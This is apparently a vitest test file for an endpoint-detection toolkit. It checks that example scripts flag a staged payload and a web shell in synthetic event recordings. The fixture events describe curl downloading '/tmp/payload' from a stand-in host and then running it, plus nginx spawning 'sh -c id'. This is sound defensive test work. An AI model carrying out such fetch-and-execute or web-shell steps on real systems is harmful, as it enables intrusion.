import { execFile } from 'node:child_process';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';

const run = promisify(execFile);
const root = resolve(import.meta.dirname, '..');
const isRoot = process.getuid?.() === 0;

/** Run an example the way a user would (tsx), against the sources. */
function example(name: string, args: string[], env: Record<string, string> = {}) {
  return run(process.execPath, ['--conditions=@edrkit/source', '--import', 'tsx', join(root, 'examples', name), ...args], {
    cwd: root,
    env: { ...process.env, ...env },
    timeout: 60_000,
  });
}

const proc = (pid: number, ppid: number, exe: string, args: string[], parent?: { pid: number; exe: string }) => ({
  pid, ppid, uid: 1000, exe, args, cmdline: args.join(' '), ...(parent ? { parent } : {}),
});
let seq = 0;
const ev = (kind: string, process: object, extra: object = {}) =>
  JSON.stringify({ kind, time: 1_750_000_000_000 + ++seq, seq, platform: 'linux', source: 'linux-ebpf', process, ...extra });

async function recording(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'edrkit-examples-'));
  const path = join(dir, 'rec.jsonl');
  const curl = proc(200, 100, '/usr/bin/curl', ['curl', '-o', '/tmp/payload', 'http://example.test/p']);
  await writeFile(path, [
    ev('process.exec', curl),
    ev('file.create', curl, { file: { path: '/tmp/payload' } }),
    ev('net.connect', curl, { net: { protocol: 'tcp', family: 'ipv4', local: { ip: '10.0.0.2', port: 40000 }, remote: { ip: '93.184.216.34', port: 80 } } }),
    ev('process.exec', proc(201, 100, '/tmp/payload', ['/tmp/payload', '--run'], { pid: 100, exe: '/usr/bin/bash' })),
    ev('process.exec', proc(300, 250, '/usr/bin/sh', ['sh', '-c', 'id'], { pid: 250, exe: '/usr/sbin/nginx' })),
    ev('process.exec', proc(301, 100, '/usr/bin/ls', ['ls'], { pid: 100, exe: '/usr/bin/bash' })),
  ].join('\n') + '\n');
  return path;
}

describe('examples', () => {
  it('hunt.ts finds the staged payload and the web shell in a recording', async () => {
    const { stdout, stderr } = await example('hunt.ts', [await recording()]);
    expect(stdout.trim().split('\n')).toEqual([
      'exec-from-writable-dir: /tmp/payload --run [pid 201] ← /usr/bin/bash (written during the recording)',
      'shell-from-network-facing-parent: sh -c id ← /usr/sbin/nginx (250)',
    ]);
    expect(stderr).toMatch(/hunt: 2 finding\(s\) in 5 events/);
  });

  it('embed.ts consumes a recording with AbortSignal and prints stats', async () => {
    const { stdout } = await example('embed.ts', [await recording()]);
    expect(stdout).toContain('connect /usr/bin/curl -> 93.184.216.34:80');
    expect(stdout).toMatch(/top programs: .*curl×1/);
    expect(stdout).toMatch(/stats: delivered=5 dropped=0/);
  });

  it.skipIf(!isRoot)(`embed.ts runs live and stops at its deadline${isRoot ? '' : ' (skipped: needs root for the live backend)'}`, async () => {
    const { stdout } = await example('embed.ts', [], { EMBED_SECONDS: '3' });
    expect(stdout).toMatch(/stats: delivered=\d+ dropped=\d+/);
  });
});

describe('bundled recording', () => {
  it('demo.jsonl is a valid recording of the documented scenario', async () => {
    const { stdout, stderr } = await example('hunt.ts', [join(root, 'examples/recordings/demo.jsonl')]);
    expect(stderr).toMatch(/hunt: 2 finding\(s\) in \d+ events/);
    expect(stdout).toMatch(/^exec-from-writable-dir: \/bin\/sh \/tmp\/payload\.sh .*\(written during the recording\)$/m);
    // record-demo.ts (node) started the scenario's shell.
    expect(stdout).toMatch(/^shell-from-network-facing-parent: sh .*scenario\.sh ← \/usr\/bin\/node/m);
  });
});
